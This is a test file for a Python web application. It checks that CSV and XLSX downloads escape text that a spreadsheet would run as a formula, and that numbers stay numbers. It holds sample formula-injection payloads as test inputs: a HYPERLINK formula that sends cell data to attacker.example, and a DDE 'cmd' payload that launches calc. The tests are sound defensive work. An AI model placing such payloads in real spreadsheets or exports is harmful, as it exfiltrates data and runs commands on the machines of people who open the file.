"""Text that a spreadsheet would run as a formula is written as text in every CSV and XLSX
download; numbers, negative ones included, stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from realise.core.cells import CsvWriter, safe_cell, xlsx_text
from realise.reports.register.xlsx import BENEFITS, INITIATIVES, write_register
from tests.factories import plan

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 cmd", "'+44 cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Plain title", "Plain title"),
        ("-12.50", "-12.50"),  # a plain number written as text stays readable as one
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_each_cell_that_would_start_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_csv_writer_escapes_every_text_cell_and_keeps_numbers():
    out = io.StringIO()
    CsvWriter(out).writerow([HOSTILE, Decimal("-250.00"), "ok"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'" + HOSTILE, "-250.00", "ok"]]


def test_an_xlsx_cell_of_text_is_never_a_formula():
    from openpyxl import Workbook

    sheet = Workbook().active
    cell = sheet.cell(row=1, column=1, value="=1+1")
    assert cell.data_type == "f"  # what openpyxl would otherwise store
    assert xlsx_text(cell).data_type == "s"
    number = sheet.cell(row=1, column=2, value=Decimal("-5"))
    assert xlsx_text(number).data_type == "n"


@pytest.fixture
def hostile(world):
    world.initiative.name = HOSTILE
    world.initiative.save()
    world.benefit.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.benefit.save()
    plan(world.benefit, datetime.date(2025, 1, 1), ["1000.00", "-200.00"])
    return world


def test_the_register_workbook_writes_hostile_names_as_text(hostile, tmp_path):
    path = tmp_path / "register.xlsx"
    write_register(path)
    workbook = load_workbook(path)
    cells = [
        cell
        for sheet in (INITIATIVES, BENEFITS)
        for row in workbook[sheet].iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=@"
    ]
    assert {cell.value for cell in cells} >= {HOSTILE, hostile.benefit.title}
    assert all(cell.data_type == "s" for cell in cells)


def test_the_audit_export_writes_hostile_text_as_text(client, hostile):
    client.force_login(hostile.dave)
    response = client.get("/audit/export.csv", {"model": "collaborations.initiative"})
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert "'" + HOSTILE in cells


def test_dashboard_downloads_write_hostile_names_as_text_and_numbers_as_numbers(client, hostile):
    client.force_login(hostile.alice)
    url = f"/dashboards/collaborations/{hostile.collab.slug}/"
    seen = []
    for name in ("groups", "initiatives"):
        as_csv = client.get(url, {"_export": "csv", "table": name, "by": "initiative"})
        if as_csv.status_code != 200:
            continue
        rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@") and not c.startswith("'")]
        seen += cells
        as_xlsx = client.get(url, {"_export": "xlsx", "table": name, "by": "initiative"})
        sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.value)
    assert "'" + HOSTILE in seen


@pytest.mark.parametrize(
    ("typed", "misplaced"),
    [
        ("1,250.50", False),
        ("£1,250", False),
        ("-£1,234,567", False),
        ("(1,234.56)", False),
        ("1250", False),
        ("12,50", True),
        ("1,25,000", True),
        ("1,2345", True),
        ("1,250,5", True),
        (",", True),
    ],
)
def test_commas_are_only_read_between_thousands(typed, misplaced):
    """One rule for every amount typed as text (the month form, the register import)."""
    from realise.core.digits import commas_misplaced

    assert commas_misplaced(typed) is misplaced
